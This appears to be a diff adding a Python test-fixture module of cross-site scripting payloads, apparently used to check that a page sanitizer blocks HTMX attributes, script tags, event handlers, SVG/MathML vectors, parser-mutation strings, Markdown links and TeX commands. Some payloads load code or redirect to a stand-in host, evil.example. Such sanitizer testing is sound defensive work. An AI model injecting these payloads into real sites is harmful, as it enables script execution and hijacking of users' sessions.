@@ -1,0 +1,117 @@
+"""Texts that try to become elements and attributes of a page: HTMX, scripts, SVG, MathML, CSS, mutations, Markdown, TeX.
+
+Each that got through would leave an attribute or an element that no harmless text leaves, or an address with `evil` in
+a place that runs it.
+"""
+
+from __future__ import annotations
+
+HTMX = (
+    '<div hx-get="/evil" hx-trigger="load">x</div>',
+    '<div data-hx-get="/evil" data-hx-trigger="load">x</div>',
+    '<a hx-post="/evil" hx-trigger="load" hx-target="body">x</a>',
+    '<a href="https://a.example/" hx-boost="true" hx-get="/evil">x</a>',
+    '<p hx-on="load: evil()">x</p>',
+    '<p hx-on:load="evil()" hx-on::after-request="evil()">x</p>',
+    '<p data-hx-on:click="evil()">x</p>',
+    "<em hx-vals='js:{x: evil()}' hx-put=\"/evil\">x</em>",
+    '<em hx-headers=\'{"X": "evil"}\' hx-patch="/evil">x</em>',
+    '<code hx-delete="/evil" hx-trigger="revealed" hx-confirm="">x</code>',
+    '<div hx-swap-oob="true" id="comments">evil</div>',
+    '<div data-hx-swap-oob="innerHTML:body">evil</div>',
+    '<div hx-ext="evil" hx-include="*" hx-sync="closest body:abort">x</div>',
+    '<math hx-get="/evil" hx-trigger="load"><mi hx-get="/evil" hx-trigger="load">x</mi></math>',
+    '<div hx-disable="false"><a hx-get="/evil" hx-trigger="load">x</a></div>',
+)
+SCRIPTS = (
+    "<script>evil()</script>",
+    '<script src="//evil.example/x.js"></script>',
+    "<SCRIPT>evil()</SCRIPT >",
+    "<scr<script>ipt>evil()</scr</script>ipt>",
+    '<img src="x" onerror="evil()">',
+    "<img/src=x/onerror=evil()>",
+    "<img src=x onerror\n=\nevil()>",
+    "<body onload=evil()>",
+    "<details open ontoggle=evil()>x</details>",
+    "<input autofocus onfocus=evil()>",
+    '<iframe srcdoc="<script>evil()</script>"></iframe>',
+    '<iframe src="javascript:evil()"></iframe>',
+    '<object data="data:text/html,<script>evil()</script>"></object>',
+    '<embed src="//evil.example/x.swf">',
+    '<form action="//evil.example/"><button>x</button></form>',
+    '<button formaction="javascript:evil()">x</button>',
+    '<base href="//evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
+    '<link rel="stylesheet" href="//evil.example/x.css">',
+    '<style>@import "//evil.example/x.css";</style>',
+    '<p style="position:fixed;inset:0;background:url(//evil.example/)">x</p>',
+    '<video><source onerror="evil()"></video>',
+    '<template shadowrootmode="open"><script>evil()</script></template>',
+    '<a href="javascript:evil()">x</a>',
+    '<a href="java&#x0A;script:evil()">x</a>',
+    '<a href="data:text/html,<script>evil()</script>">x</a>',
+    '<a href="vbscript:evil()" target="_blank" ping="//evil.example/">x</a>',
+    '<a id="comments" name="act" class="vote" is="evil">x</a>',
+)
+FOREIGN_ELEMENTS = (
+    '<svg onload="evil()"></svg>',
+    "<svg><script>evil()</script></svg>",
+    '<svg><a xlink:href="javascript:evil()"><text>x</text></a></svg>',
+    '<svg><animate attributeName="href" values="javascript:evil()"/></svg>',
+    '<svg><use href="data:image/svg+xml,evil#x"/></svg>',
+    '<svg><foreignObject><p onclick="evil()">x</p></foreignObject></svg>',
+    '<math><a xlink:href="javascript:evil()">x</a></math>',
+    '<math href="javascript:evil()"><mi>x</mi></math>',
+    '<math><annotation-xml encoding="text/html"><p onclick="evil()">x</p></annotation-xml></math>',
+    '<math><mtext><img src="x" onerror="evil()"></mtext></math>',
+    '<math><maction actiontype="statusline" xlink:href="javascript:evil()">x</maction></math>',
+)
+MUTATIONS = (
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=evil()&gt;">',
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=evil()>",
+    '<svg></p><style><a id="</style><img src=1 onerror=evil()>">',
+    '<noscript><p title="</noscript><img src=x onerror=evil()>">',
+    '<a title="</a><img src=x onerror=evil()>" href="https://a.example/">x</a>',
+    "<!--><img src=x onerror=evil()>-->",
+    "<!--!><img src=x onerror=evil()>--!>",
+    "<![CDATA[><img src=x onerror=evil()>]]>",
+    '<xmp><p title="</xmp><img src=x onerror=evil()>">',
+    '<textarea><img title="</textarea><img src=x onerror=evil()>">',
+    "<table><td><a href='https://a.example/'><table><td><img src=x onerror=evil()>",
+    '"><img src=x onerror=evil()>',
+    "'><svg/onload=evil()>",
+    "\"hx-get='/evil'hx-trigger='load",
+    "</title><script>evil()</script>",
+    "</textarea></pre></code></math><script>evil()</script>",
+    "&lt;img src=x onerror=evil()&gt;",
+    "&amp;lt;script&amp;gt;evil()",
+    "%3Cscript%3Eevil()%3C/script%3E",
+    "\u2028<script>evil()</script>",
+    "⟦title⟧<!--body--><script>evil()</script>",
+)
+MARKDOWN = (
+    '[x](https://a.example/ "> @ada <img src=x onerror=evil()>")',
+    '[x](https://a.example/?a=>@ada"hx-get="/evil"hx-trigger="load)',
+    '[x](https://a.example/ "<a @ada hx-get=/evil hx-trigger=load>")',
+    "[x](javascript:evil())",
+    "[x](<javascript:evil()>)",
+    "<javascript:evil()>",
+    "[x][y]\n\n[y]: javascript:evil()",
+    '![x](https://a.example/x.png"onerror="evil())',
+    "@ada<img src=x onerror=evil()>",
+    "`<img src=x onerror=evil()>` @ada",
+    '| <img src=x onerror=evil()> |\n|---|\n| @ada"hx-get=/evil |',
+)
+TEX = (
+    r"$\text{<img src=x onerror=evil()>}$",
+    r"$\href{javascript:evil()}{x}$",
+    r"$\class{vote}{x}\style{position:fixed}{y}\cssId{act}{z}$",
+    r"$x^{\text{</mtext></math><img src=x onerror=evil()>}}$",
+    r"$\unknowncommand{<img src=x onerror=evil()>}$",
+    r"\href{https://a.example/'\"><img src=x onerror=evil()>}{x}",
+    r"\href{https://a.example/?a=>harmless<b hx-get=/evil>}{x}",
+    r"\url{javascript:evil()}",
+    r"\emph{<em hx-get='/evil' hx-trigger='load'>harmless</em>}",
+)
+PAYLOADS = (*HTMX, *SCRIPTS, *FOREIGN_ELEMENTS, *MUTATIONS, *MARKDOWN, *TEX)
+HARMLESS = tuple(f"Harmless words number {number}" for number in range(len(PAYLOADS)))
